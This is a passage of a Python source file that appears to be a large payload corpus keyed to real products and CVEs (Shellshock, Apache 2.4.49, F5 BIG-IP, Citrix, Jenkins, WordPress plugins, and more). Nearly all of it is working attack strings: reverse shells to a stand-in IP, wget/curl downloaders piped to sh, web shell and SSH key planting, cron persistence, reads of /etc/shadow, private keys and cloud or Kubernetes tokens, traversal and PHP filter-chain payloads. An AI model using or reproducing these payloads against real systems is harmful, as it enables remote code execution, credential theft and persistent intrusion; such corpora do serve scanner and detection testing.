     "[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"/bin/bash\")';", SALT),
    (f";ncat --ssl -e /bin/bash {IP} 443", SAR2HTML),
    (f"a'$(0<&196;exec 196<>/dev/tcp/{IP}/4444; sh <&196 >&196 2>&196)'b", CISCO_RV),
    (f"$(/bin/busybox nc {IP} 4444 -e /bin/sh)", HIKVISION),
    (f"{{.exec|powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('{IP}',4444);$s=$c.GetStream();"
     "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)"
     ".GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$t=([text.encoding]::ASCII).GetBytes($r);"
     "$s.Write($t,0,$t.Length)}\".}", HFS),
    (f"echo;/bin/bash -c 'sh -i >& /dev/udp/{IP}/53 0>&1'", APACHE_41773),
]
SS = "198.51.100.31"
# Shellshock (bash function import through CGI environment variables, CVE-2014-6271 and the follow-ups
# CVE-2014-7169 / CVE-2014-6278): Apache mod_cgi scripts, SonicWall SSL-VPN jarrewrite.sh, QNAP authLogin.cgi,
# cPanel defaultwebpage.cgi, IPFire, Cisco UCS Manager
RCE_SHELLSHOCK: list[Entry] = [
    ("() { :; }; echo; /bin/bash -c 'id'", H("/cgi-bin/status", "User-Agent")),
    ("() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'", H("/cgi-bin/jarrewrite.sh", "User-Agent")),
    (f"() {{ :;}}; /bin/sh -c 'wget -q http://{SS}/q.sh -O /tmp/q.sh; sh /tmp/q.sh'",
     H("/cgi-bin/authLogin.cgi", "User-Agent")),
    ("() { :;}; echo Content-Type: text/plain; echo; /usr/bin/id", H("/cgi-sys/defaultwebpage.cgi", "Referer")),
    ("() { _; } >_[$($())] { echo; id; }", H("/cgi-bin/test.cgi", "User-Agent")),
    ("() { (a)=>\\' bash -c 'echo date'; cat echo", H("/cgi-bin/test-cgi", "User-Agent")),
    (f"() {{ :; }}; /bin/bash -i >& /dev/tcp/{SS}/4444 0>&1", H("/cgi-bin/index.cgi", "Cookie")),
    ("() { ignored; }; /bin/cat /etc/shadow", H("/ucsm/isSamInstalled.cgi", "User-Agent")),
    ("() { :; }; sleep 10", H("/cgi-bin/printenv", "Accept")),
    (f"() {{ :; }}; ping -c 3 {SS}", H("/cgi-bin/admin.cgi", "Accept-Language")),
    (f"() {{ :;}}; /usr/bin/curl http://{SS}/sh.txt -o /tmp/sh.txt", H("/cgi-bin/hello.sh", "X-Forwarded-For")),
    (f"() {{ test;}};/usr/bin/wget http://{SS}/x -O /tmp/x", H("/cgi-bin/php", "User-Agent")),
    ('() { :;}; echo "X-Bash-Test: $(id)"', H("/cgi-bin/poc.cgi", "Referer")),
    (f"() {{ x;}}; /bin/nc -e /bin/sh {SS} 4444", H("/cgi-bin/login.cgi", "Cookie")),
    ("() { :; }; echo; echo; /bin/bash -c 'echo vulnerable'", H("/cgi-bin/status", "Referer")),
    ("() { :; }; /bin/bash -c \"echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 pwn' >> /root/.ssh/authorized_keys\"",
     H("/cgi-bin/jarrewrite.sh", "User-Agent")),
    ("() { :;};echo;/bin/ls /", H("/cgi-bin/user.sh", "Content-Type")),
]
DL = "198.51.100.23"
# Downloaders (wget / curl / tftp / fetch / python / lwp-download piped to a shell): the botnet droppers seen
# against routers and DVRs, and the second stage against web products
RCE_DOWNLOADERS: list[Entry] = [
    (f"rm -rf /tmp/*;wget http://{DL}/Mozi.m -O /tmp/netgear;sh netgear", NETGEAR_DGN),
    (f"`busybox wget http://{DL}/gpon -O /tmp/gpon`;sh /tmp/gpon", GPON),
    (f"-h `cd /tmp;rm -rf mpsl;wget http://{DL}/mpsl;chmod 777 mpsl;./mpsl linksys`", LINKSYS_TM),
    (f"aa aa';wget http://{DL}/d -O -> /tmp/r;sh /tmp/r'$", DLINK),
    (f"cd /tmp;wget http://{DL}/bins.sh;chmod 777 bins.sh;sh bins.sh", THINKPHP),
    (f"curl -fsSL http://{DL}/d.sh | sh", DRUPAL),
    (f"password$(curl -s {DL}/r|sh)", RUCKUS),
    (f";cd /tmp;wget http://{DL}/t;chmod +x t;./t tenda", TENDA),
    (f"cd /tmp;wget http://{DL}/jaws;sh jaws", MVPOWER),
    (f";curl http://{DL}/c.sh | bash", CACTI),
    (f"echo;curl -s http://{DL}/x|sh", APACHE_42013),
    (f"; curl -k https://{DL}/z.sh | sh;", ZYXEL),
    (f"$(wget -qO- {DL}/h|sh)", HIKVISION),
    (f"`cd /tmp;tftp -l 7 -r 7 -g {DL};chmod 777 7;./7`", EIR),
    (f"file|fetch -o /tmp/p http://{DL}/p;sh /tmp/p|echo ", PFSENSE),
    (f"`python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://{DL}/p.py').read())\"`", AIRFLOW),
    (f"x|lwp-download http://{DL}/w.pl /tmp/w.pl;perl /tmp/w.pl", WEBMIN),
]
# Files written through the shell (echo / printf / tee / >> / crontab) and through sendmail's -X log and
# zip's -T: web shells, authorized_keys, passwd, cron
RCE_FILE_WRITE: list[Entry] = [
    ("$(echo hacked>webLib/pwn.txt)", HIKVISION),
    ("x|echo 'toor:$1$xyz$0F8ykCCkO0ALmJAc7cDP./:0:0::/root:/bin/sh' >> /etc/passwd", WEBMIN),
    ('"attacker\\" -oQ/tmp/ -X/var/www/html/phpcode.php some"@email.com', PHPMAILER),
    ("example@example.com -OQueueDirectory=/tmp -X/var/www/html/rce.php", ROUNDCUBE),
    ("-TvTT=id>shell.php #a.zip", ELFINDER),
    (";echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/cacti/c.php", CACTI),
    ("; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGp5d4mXbW9hZ2xvbGJ1dGZ1bm55a2V5 pwn@kali' "
     ">> /root/.ssh/authorized_keys;", ZYXEL),
    ("; tee /var/www/html/x.php <<< '<?php passthru($_GET[1]);?>' #", RCONFIG),
    (f"aaa|printf '* * * * * root /bin/sh -c \"sh -i >& /dev/tcp/{IP}/4444 0>&1\"\\n' > /etc/cron.d/salt-upd;",
     SALT),
    ("`echo " + _b64("touch /tmp/pwn") + " | base64 -d | tee /tmp/x.sh`", SPARK),
    ("`echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDxyz airflow' >> ~/.ssh/authorized_keys`", AIRFLOW),
    (";echo '<?php system($_REQUEST[\"c\"]);?>' | tee /var/www/html/sar2html/s.php", SAR2HTML),
    ("ip=>;printf '%s' '<?php eval($_POST[a]);?>' > /opt/ona/www/ona.php", ONA),
    ("echo;echo '<?php system($_GET[0]);?>' > /var/www/html/s.php", APACHE_41773),
    (f"(crontab -l; echo '*/5 * * * * curl -s {DL}/m|sh') | crontab -", PANDORA),
    ("$(echo '/usr/sbin/telnetd -l /bin/login.sh' >> /etc/rc.local)", TPLINK),
    ("echo " + _b64("<?php eval($_POST[1]);?>") + " | base64 -d | tee sites/default/files/x.php", DRUPAL),
]
# Commands that name the files an attacker is after: /etc/shadow and /etc/passwd, the products' own config
# files (Cacti, Pandora, ONA, rConfig, pfSense, BIG-IP, Airflow, Salt, ThinkPHP, Drupal, Jenkins), SSH keys,
# shell history, the Kubernetes service account token
RCE_RESTRICTED: list[Entry] = [
    ("x|cat /etc/shadow", WEBMIN),
    (";cat /var/www/html/cacti/include/config.php", CACTI),
    (";cat /etc/passwd", SAR2HTML),
    ("cat /var/www/html/pandora_console/include/config.php", PANDORA),
    ("ip=>;cat /opt/ona/www/local/config/database_settings.inc.php", ONA),
    ("; cat /home/rconfig/config/config.inc.php #", RCONFIG),
    ("file|cat /conf/config.xml|echo ", PFSENSE),
    ("-c 'cat /config/bigip.conf'", F5_BASH),
    ("-c 'cat /etc/shadow'", F5_BASH),
    ("`cat /root/.ssh/id_rsa`", SPARK),
    ("`cat /opt/airflow/airflow.cfg`", AIRFLOW),
    ("`cat ~/.bash_history`", AIRFLOW),
    ("aaa|cat /etc/salt/master;", SALT),
    ("cat ../application/database.php", THINKPHP),
    ("cat sites/default/settings.php", DRUPAL),
    ("$(cat /etc/passwd>webLib/p.txt)", HIKVISION),
    ("println 'cat /var/lib/jenkins/secrets/initialAdminPassword'.execute().text", JENKINS_SCRIPT),
    ("||cat /var/run/secrets/kubernetes.io/serviceaccount/token||", KYLIN),
]


# ----------------------------------------------------------------------------------------------------------------
# Product targets of the file inclusion / traversal exploits
# Kibana < 6.4.3 console api_server apis, require() of any .js file (CVE-2018-17246)
KIBANA = Q("/api/console/api_server?sense_version=@@SENSE_VERSION", "apis")
# Cisco ASA / FTD web services translation-table lang (CVE-2020-3452)
CISCO_ASA = Q("/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language", "lang")
# FortiOS SSL VPN fgt_lang (CVE-2018-13379)
FORTIOS = Q("/remote/fgt_lang", "lang")
# Citrix ADC / Gateway newbm.pl, the NSC_USER header names the bookmark file (CVE-2019-19781)
CITRIX_NSC = T("rs-header", "/vpn/../vpns/portal/scripts/newbm.pl", "NSC_USER", (),
               (("NSC_NONCE", "nsroot"), ("Content-Type", "application/x-www-form-urlencoded")), "POST",
               "url=http://example.com&title=pwn&desc=pwn&UI_inuse=RfWeb")
# phpMyAdmin 4.8.0-4.8.1 index.php target, double-encoded ? passes the whitelist (CVE-2018-12613)
PMA = Q("/index.php", "target")
# WordPress Duplicator 1.3.24 duplicator_download file (CVE-2020-11738)
DUPLICATOR = Q("/wp-admin/admin-ajax.php?action=duplicator_download", "file")
# WordPress Slider Revolution <= 4.1.4 revslider_show_image img (arbitrary file download)
REVSLIDER = Q("/wp-admin/admin-ajax.php?action=revslider_show_image", "img")
# SolarWinds Serv-U InternalDir / InternalFile (CVE-2024-28995)
SERVU = Q("/?InternalFile=win.ini", "InternalDir")
SERVU_FILE = Q("/?InternalDir=/../../../../ProgramData/RhinoSoft/Serv-U/", "InternalFile")
# Ruby on Rails render file: with the Accept header's format (CVE-2019-5418)
RAILS = H("/pages/about", "Accept")
# WordPress Mail Masta count_of_send.php pl (unauthenticated LFI / RFI)
MAILMASTA = Q("/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php", "pl")
# WordPress Site Editor 1.1.1 ajax_shortcode_pattern.php ajax_path (CVE-2018-7422)
SITEEDITOR = Q("/wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php",
               "ajax_path")
# WordPress Localize My Post 1.0 include.php file (LFI / RFI)
LOCALIZE = Q("/wp-content/plugins/localize-my-post/ajax/include.php", "file")
# WordPress eBook Download 1.1 filedownload.php ebookdownloadurl (arbitrary file download)
EBOOK = Q("/wp-content/plugins/ebook-download/filedownload.php", "ebookdownloadurl")
# WordPress WP with Spritz 1.0 wp.spritz.content.filter.php url (LFI / RFI)
SPRITZ = Q("/wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php", "url")
# WordPress Advanced Access Manager < 5.9.9 aam-media (arbitrary file read)
AAM = Q("/", "aam-media")
# Apache Solr ReplicationHandler filecontent (file read)
SOLR_REPL = Q("/solr/core0/replication?command=filecontent&wt=filestream&generation=1", "file")
# Apache Solr remote streaming through the debug dump handler (file read / SSRF)
SOLR_DUMP = Q("/solr/db/debug/dump?param=ContentStreams", "stream.url")
# Confluence Server widget connector macro preview, _template (CVE-2019-3396)
CONFLUENCE = J("/rest/tinymce/1/macro/preview", "macro.params._template",
               [("contentId", "786457"), ("macro.name", "widget"), ("macro.body", ""),
                ("macro.params.url", "https://www.viddler.com/v/23464dc5"), ("macro.params.width", "1000"),
                ("macro.params.height", "1000")],
               [("Referer", "https://confluence.corp.example/pages/resumedraft.action?draftId=786457")])
# Jenkins CLI args4j @file expansion over HTTP (CVE-2024-23897)
JENKINS_CLI = RB("/cli?remoting=false", "application/octet-stream",
                 [("Session", "9d1a5e2c-7f3b-4b8e-a0c1-2f6d8e9b3a47"), ("Side", "upload")],
                 "\x00\x00\x00\x06\x00\x00\x04help\x00\x00\x00\x20\x00\x00\x1e{v}\x00\x00\x00\x00\x02\x03")
# F5 BIG-IP TMUI fileRead.jsp behind ..; (CVE-2020-5902)
F5_READ = Q("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", "fileName")
# GoAhead web server CGI environment, LD_PRELOAD from the query (CVE-2017-17562)
GOAHEAD = Q("/cgi-bin/index", "LD_PRELOAD", method="POST")
# Apache Druid sampler with an http input source reading file: URIs (CVE-2021-36749)
DRUID = J("/druid/indexer/v1/sampler?for=connect", "spec.ioConfig.inputSource.uris[]",
          [("type", "index"), ("spec.type", "index"), ("spec.ioConfig.type", "index"),
           ("spec.ioConfig.inputSource.type", "http"), ("spec.ioConfig.inputFormat.type", "regex"),
           ("spec.ioConfig.inputFormat.pattern", "(.*)"), ("spec.ioConfig.inputFormat.columns[]", "raw"),
           ("spec.dataSchema.dataSource", "sample"), ("spec.dataSchema.timestampSpec.column", "!!!_no_such_column_!!!"),
           ("spec.dataSchema.timestampSpec.missingValue", "2010-01-01T00:00:00Z")])
# Metabase GeoJSON custom map url (CVE-2021-41277)
METABASE = Q("/api/geojson", "url")
# Oracle Reports rwservlet URLPARAMETER (CVE-2012-3152)
ORACLE_REPORTS = Q("/reports/rwservlet?report=test.rdf+desformat=html+destype=cache+JOBTYPE=rwurl+URLPARAMETER=")
# Zimbra Collaboration skin of the I18nMsg bundle (CVE-2013-7091)
ZIMBRA = Q("/res/I18nMsg,AjxMsg,ZMsg,ZmMsg,AjxKeys,ZmKeys,ZdMsg,Ajx%20TemplateMsg.js.zgz?v=091214175450", "skin")
# Adobe ColdFusion 8/9 administrator locale (CVE-2010-2861), on its four published pages
CF_ENTER = Q("/CFIDE/administrator/enter.cfm", "locale")
CF_WIZARD = Q("/CFIDE/wizards/common/_logintowizard.cfm", "locale")
CF_ARCHIVES = Q("/CFIDE/administrator/archives/index.cfm", "locale")
CF_ENTMAN = Q("/CFIDE/administrator/entman/index.cfm", "locale")
# Joomla 1.5 components' controller parameter (many 2010 LFI advisories)
JOOMLA_CKFORMS = Q("/index.php?option=com_ckforms", "controller")
JOOMLA_CCNEWS = Q("/index.php?option=com_ccnewsletter", "controller")
JOOMLA_JASHOW = Q("/index.php?option=com_jashowcase&view=jashowcase", "controller")
JOOMLA_MYBLOG = Q("/index.php?option=com_myblog&Itemid=12", "controller")
# Horde util/barcode.php type (LFI)
HORDE = Q("/horde/util/barcode.php", "type")
# FCKeditor 2.x PHP connector upload, CurrentFolder with a NUL
FCKEDITOR = Q("/fckeditor/editor/filemanager/connectors/php/connector.php?Command=FileUpload&Type=File",
              "CurrentFolder", method="POST")
# PHP-CGI query string taken as command-line switches (CVE-2012-1823) and Windows best-fit soft hyphen
# (CVE-2024-4577)
PHPCGI = Q("/index.php")
PHPCGI_WIN = Q("/php-cgi/php-cgi.exe")
# Laravel Ignition < 2.5.2 execute-solution viewFile (CVE-2021-3129)
IGNITION = J("/_ignition/execute-solution", "parameters.viewFile",
             [("solution", "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution"),
              ("parameters.variableName", "username")])
# Drupal 8 file system settings, phar:// temporary path (CVE-2019-6339)
DRUPAL_PHAR = F("/admin/config/media/file-system", "file_temporary_path",
                [("file_public_path", "sites/default/files"), ("file_default_scheme", "public"),
                 ("form_id", "system_file_system_settings"), ("op", "Save configuration")])
# ThinkPHP 6 multi-language lang cookie / parameter include, with pearcmd (CVE-2022-47945)
THINKPHP_LANG = Q("/index.php?+config-create+/", "lang")
THINKPHP_LANG_COOKIE = C("/index.php", "think_lang")
# VMware vCenter vROps plugin uploadova, tar entry names (CVE-2021-21972)
VCENTER = MF("/ui/vropspluginui/rest/services/uploadova", "uploadFile", "ustar")
# IIS 6 semicolon extension trick on an upload form
IIS_UPLOAD = MF("/upload/upload.asp", "file1", "GIF89a")
# Grafana 8.0-8.3 plugin assets
GRAFANA = RP("/public/plugins/alertlist/§")

IIS_NUL_UPLOAD = MF("/admin/upload.php", "userfile", "GIF89a")
SESS = "sess_0b8e3a7d4a1f2c9e6d5b4a3c2b1a0f9e"

# --- lfi ---------------------------------------------------------------------------------------------------------
# Traversal in every encoding the published requests use: raw ../ (curl --path-as-is), .%2e, %%32%65, ..%252f,
# overlong %c0%ae, %u002e, .%0d., ..%01, ..;/, %5c, %255c, ..\ and ....// (filter bypass)
LFI_TRAVERSAL: list[Entry] = [
    ("/public/plugins/alertlist/../../../../../../../../etc/passwd", RP()),   # Grafana (CVE-2021-43798)
    ("/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", RP()),                    # Apache 2.4.49 (CVE-2021-41773)
    ("/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd", RP()),           # Apache 2.4.50 (CVE-2021-42013)
    # Apache Flink 1.11 jobmanager logs (CVE-2020-17519)
    ("/jobmanager/logs/..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252fetc"
     "%252fpasswd", RP()),
    # GlassFish 4.1 theme resources, overlong UTF-8 dots
    ("/theme/META-INF/prototype%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/"
     "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", RP()),
    ("/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp", RP()),              # Openfire (CVE-2023-32315)
    ("/.%0d./.%0d./.%0d./.%0d./etc/passwd", RP()),                            # Nostromo (CVE-2019-16278)
    # Spring Cloud Config Server (CVE-2020-5410)
    ("/..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23foo/"
     "development", RP()),
    ("../../../../../../../../../../../etc/passwd", KIBANA),
    ("../", CISCO_ASA),
    ("/../../../..//////////dev/cmdb/sslvpn_websession", FORTIOS),
    ("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", RP()),   # F5 (CVE-2020-5902)
    ("../../../../../../../../etc/passwd{{", RAILS),
    # Rails Sprockets file: URI with double-encoded dots (CVE-2018-3760)
    ("/assets/file:%2f%2f/usr/src/app/app/assets/images/%252e%252e/%252e%252e/%252e%252e/%252e%252e/%252e%252e/"
     "%252e%252e/etc/passwd", RP()),
    ("/console/css/%252e%252e%252fconsole.portal", RP()),                     # WebLogic (CVE-2020-14882)
    ("/vpn/../vpns/cfg/smb.conf", RP()),                                      # Citrix ADC (CVE-2019-19781)
    ("../../../netscaler/portal/templates/pwn", CITRIX_NSC),
    ("db_sql.php%3f/../../../../../../../../etc/passwd", PMA),
    ("../../../../../../../../../etc/passwd", DUPLICATOR),
    # Spring MVC static resources on Windows (CVE-2018-1271)
    ("/spring-mvc-showcase/resources/%255c%255c..%255c/..%255c/..%255c/..%255c/..%255c/..%255c/..%255c/..%255c/"
     "..%255c/windows/win.ini", RP()),
    # GitLab 16.0.0 uploads under nested groups (CVE-2023-2825)
    ("/group1/group2/group3/group4/group5/project/uploads/4e02c376ac758e162ec674399741e38d//..%2F..%2F..%2F..%2F"
     "..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd", RP()),
    ("\\..\\..\\..\\..\\..\\windows", SERVU),
    ("/%2F%2F%2F%2F%2F%2F%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd", RP()),   # Nexus (CVE-2024-4956)
    # Webmin 1.290 / Usermin unauthenticated ..%01 (CVE-2006-3392)
    ("/unauthenticated/..%01/..%01/..%01/..%01/..%01/..%01/..%01/..%01/..%01/..%01/etc/passwd", RP()),
    ("../../../../../../../../usr/lib/vmware-vsphere-ui/server/work/deployer/s/global/42/0/h5ngc.war/resources/"
     "shell.jsp", VCENTER),
    ("....//....//....//wp-config.php", EBOOK),
]
# OS and application files: /etc/passwd, /proc/self/*, win.ini, boot.ini, web.config, .htaccess, .git/, .env,
# id_rsa, the products' own secrets (Pulse Secure's data.mdb, Grafana's ini and db, Jira's pom, wp-config)
LFI_OS_FILES: list[Entry] = [
    # Pulse Connect Secure (CVE-2019-11510)
    ("/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", RP()),
    ("/dana-na/../dana/html5acc/guacamole/../../../../../../data/runtime/mtmp/lmdb/dataa/data.mdb?/dana/html5acc/"
     "guacamole/", RP()),
    # Jira (CVE-2019-8442, CVE-2021-26086)
    ("/s/thiscanbeanythingyouwant/_/META-INF/maven/com.atlassian.jira/atlassian-jira-webapp/pom.xml", RP()),
    ("/s/cfx/_/;/WEB-INF/web.xml", RP()),
    ("/.git/config", RP()),          # exposed git metadata (git-dumper / GitTools)
    ("/.git/logs/HEAD", RP()),
    ("/.env", RP()),                 # Laravel / Symfony dotenv exposed in the web root
    ("/proc/self/environ", SITEEDITOR),
    ("../../../../../../../../../../../proc/self/cmdline", KIBANA),
    ("..\\..\\..\\..\\..\\Windows\\win.ini", SERVU_FILE),
    ("..\\..\\..\\..\\..\\..\\..\\..\\boot.ini", CF_ENTMAN),
    ("../../../web.config", EBOOK),
    (".htaccess", AAM),
    ("wp-config.php", AAM),
    ("../../../../../../../../home/solr/.ssh/id_rsa", SOLR_REPL),
    ("../wp-config.php", REVSLIDER),
    ("/../../../..//etc/passwd", SPRITZ),
    ("../../../../../../../../var/lib/grafana/grafana.db", GRAFANA),
    ("../../../../../../../../etc/grafana/grafana.ini", GRAFANA),
    ("../../../../../../../../proc/self/status", LOCALIZE),
    ("../../../../../../../../proc/self/environ{{", RAILS),
    ("../web.xml", CONFLUENCE),
    ("../../../../../../../../../../root/.ssh/id_rsa", DUPLICATOR),
]
# Absolute paths and file: URIs handed straight to the product (no traversal needed)
LFI_ABSOLUTE: list[Entry] = [
    ("@/etc/passwd", JENKINS_CLI),
    ("@/var/jenkins_home/secrets/master.key", JENKINS_CLI),
    ("/etc/passwd", F5_READ),
    ("/config/bigip.conf", F5_READ),
    ("/var/www/html/wp-config.php", MAILMASTA),
    ("/etc/apache2/apache2.conf", MAILMASTA),
    ("file:///etc/issue", SOLR_DUMP),
    ("file:///home/ubuntu/.aws/credentials", SOLR_DUMP),
    ("file:///etc/passwd", CONFLUENCE),
    ("file:///C:/Program Files/Atlassian/Confluence/conf/server.xml", CONFLUENCE),
    ("/proc/self/fd/0", GOAHEAD),
    ("file:///etc/shadow", DRUID),
    ("file:/etc/passwd", METABASE),
    ("file:/var/run/secrets/kubernetes.io/serviceaccount/token", METABASE),
    ('"file:///c:/windows/win.ini"', ORACLE_REPORTS),
    ("/etc/hostname", LOCALIZE),
    ("/usr/local/etc/php/php.ini", LOCALIZE),
    ("C:\\xampp\\htdocs\\wp-config.php", SPRITZ),
    ("/etc/mysql/my.cnf", SITEEDITOR),
    ("/etc/nginx/nginx.conf", SITEEDITOR),
    ("/root/.bash_history", DUPLICATOR),
    ("C:/Windows/System32/drivers/etc/hosts", EBOOK),
    ("/etc/ssh/sshd_config", F5_READ),
]
# NUL and length truncation of an appended suffix or a checked extension: ColdFusion locale, Zimbra skin, Joomla
# controller, Horde barcode type, PHP < 5.3.4 path truncation, Windows trailing dots, FCKeditor folder, IIS
# semicolon and ::$DATA, nginx %00 and PATH_INFO, Tomcat PUT with a trailing slash / space / ::$DATA
LFI_NULLBYTE: list[Entry] = [
    ("../../../../../../../../../opt/zimbra/conf/localconfig.xml\0", ZIMBRA),
    ("../../../../../../../../../../ColdFusion8/lib/password.properties\0en", CF_ENTER),
    ("..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\ColdFusion9\\lib\\password.properties\0en", CF_WIZARD),
    ("../../../../../../../../../../JRun4/servers/cfusion/cfusion-ear/cfusion-war/WEB-INF/cfusion/lib/"
     "password.properties\0en", CF_ARCHIVES),
    ("../../../../../../../../../../etc/passwd\0en", CF_ENTMAN),
    ("../../../../../../../../etc/passwd\0", JOOMLA_CKFORMS),
    ("../../../../../../../../../../proc/self/environ\0", JOOMLA_CCNEWS),
    ("../../../../../../../../../../../../etc/passwd\0", JOOMLA_JASHOW),
    ("../../../../../../../../../../etc/hosts\0", JOOMLA_MYBLOG),
    ("../../../../../../../../../../etc/passwd\0", HORDE),
    ("../../../../../../etc/passwd" + "/." * 2100, LOCALIZE),
    ("..\\..\\..\\..\\boot.ini" + "." * 256, EBOOK),
    ("../../../../etc/passwd\0.jpg", REVSLIDER),
    ("../../../../etc/passwd\0.html", SPRITZ),
    ("shell.asp;.jpg", IIS_UPLOAD),
    ("/shell.php\0.jpg", FCKEDITOR),
    ("shell.php\0.jpg", IIS_NUL_UPLOAD),
    ("/uploads/avatar.jpg%00.php", RP()),
    ("/uploads/avatar.jpg/.php", RP()),
    ("/login.asp::$DATA", RP()),
    ("/shell.jsp/", RP(method="PUT", body="<% out.println(\"ok\"); %>")),     # Tomcat (CVE-2017-12617)
    ("/shell.jsp%20", RP(method="PUT", body="<% out.println(\"ok\"); %>")),   # Tomcat on Windows (CVE-2017-12615)
    ("/shell.jsp::$DATA", RP(method="PUT", body="<% out.println(\"ok\"); %>")),
]
FILTER_CHAIN = ("php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
                "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.iconv.855.CP936|"
                "convert.iconv.IBM-932.UTF-8|convert.base64-decode|convert.base64-encode|convert.iconv.UTF8.UTF7|"
                "convert.base64-decode/resource=php://temp")
# PHP stream wrappers in the include / file-read parameters: php://input and php://filter (read, write and the
# iconv filter chain), phar://, zip://, compress.zlib://; PHP-CGI's -d switches (CVE-2012-1823, CVE-2024-4577);
# Laravel Ignition's log-clearing and phar chain (CVE-2021-3129); Drupal's phar temporary path (CVE-2019-6339)
LFI_PHP_WRAPPERS: list[Entry] = [
    ("-d allow_url_include=on -d auto_prepend_file=php://input", PHPCGI),
    ("-d safe_mode=Off -d disable_functions=NULL -d allow_url_include=On -d auto_prepend_file=php://input",
     PHPCGI),
    ("\xadd allow_url_include=1 \xadd auto_prepend_file=php://input", PHPCGI_WIN),
    ("php://filter/write=convert.quoted-printable-decode|convert.iconv.utf-16le.utf-8|convert.base64-decode/"
     "resource=../storage/logs/laravel.log", IGNITION),
    ("php://filter/write=convert.base64-decode|convert.base64-decode|convert.base64-decode/"
     "resource=../storage/logs/laravel.log", IGNITION),
    ("phar://../storage/logs/laravel.log", IGNITION),
    ("compress.zlib://phar:///var/www/storage/logs/laravel.log/test.txt", IGNITION),
    ("php://filter/convert.base64-encode/resource=../wp-config.php", REVSLIDER),
    ("php://filter/read=string.rot13/resource=../../../../wp-config.php", MAILMASTA),
    ("php://filter/resource=/etc/passwd", SITEEDITOR),
    ("php://input", LOCALIZE),
    ("zip://../../../uploads/2024/05/avatar.zip#shell.php", LOCALIZE),
    ("php://filter/string.toupper|string.rot13|string.tolower/resource=/etc/passwd", LOCALIZE),
    ("phar://./sites/default/files/pictures/2019-01/blog-ZDI-CAN-7232-cat.jpg", DRUPAL_PHAR),
    ("php://filter/convert.base64-encode/resource=../../../configuration", JOOMLA_CKFORMS),
    (FILTER_CHAIN, SPRITZ),
    ("php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd", EBOOK),
    ("php://filter/read=convert.base64-encode|convert.base64-encode/resource=index.php", HORDE),
    ("pHp://FilTer/convert.base64-encode/resource=index.php", DUPLICATOR),
    ("php://filter/read=convert.quoted-printable-encode/resource=wp-config.php", AAM),
    ("php://filter/convert.iconv.utf-8.utf-7/resource=/etc/passwd", THINKPHP_LANG),
    ("php://filter/convert.base64-encode/resource=/var/www/html/config.inc.php", PMA),
]
# The files an LFI is turned into code execution with: web server, auth, mail and FTP logs, PHP session files,
# /proc/self/fd, pearcmd.php, Laravel's and WordPress's debug logs, Kibana's require of an uploaded .js
LFI_LOG_POISONING: list[Entry] = [
    ("db_sql.php%3f/../../../../../../../../var/lib/php/sessions/" + SESS, PMA),
    ("../../../../../../var/log/apache2/access.log", LOCALIZE),
    ("/var/log/nginx/access.log", MAILMASTA),
    ("/var/log/auth.log", SITEEDITOR),
    ("../../../../../../../../../../../tmp/reverse-shell.js", KIBANA),
    ("../../../../../../../../usr/local/lib/php/pearcmd", THINKPHP_LANG),
    ("../../../../../../../../tmp/hello", THINKPHP_LANG_COOKIE),
    ("/var/www/html/storage/logs/laravel.log", IGNITION),
    ("../storage/logs/laravel-2024-05-01.log", IGNITION),
    ("..\\..\\..\\..\\..\\apache\\logs\\access.log", EBOOK),
    ("../../../../../../../../../../usr/local/apache/logs/access_log", JOOMLA_MYBLOG),
    ("../../../../../../../../var/log/httpd/error_log", HORDE),
    ("/opt/lampp/logs/access_log", SPRITZ),
    ("../../../../../../../../var/log/vsftpd.log", DUPLICATOR),
    ("../../../../../../../tmp/sess_9f6c1e2d3b4a5c6d7e8f9a0b1c2d3e4f", REVSLIDER),
    ("../../../../../var/lib/php5/sess_5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b", AAM),
    ("/var/log/restjavad.0.log", F5_READ),
    ("../../../../../../../../var/log/grafana/grafana.log", GRAFANA),
    ("/proc/self/fd/7", LOCALIZE),
    ("../../../../../../../../var/solr/logs/solr.log", SOLR_REPL),
    ("/var/www/html/wp-content/debug.log", MAILMASTA),
    ("/var/log/mail.log", SITEEDITOR),
    ("../../../../../../../../var/mail/www-data", EBOOK),
]
# Backup, editor-swap, dump and config-format files of the products (nuclei-style backup probes and the file
# download plugins pointed at them)
LFI_RESTRICTED_EXT: list[Entry] = [
    ("/wp-config.php.bak", RP()),
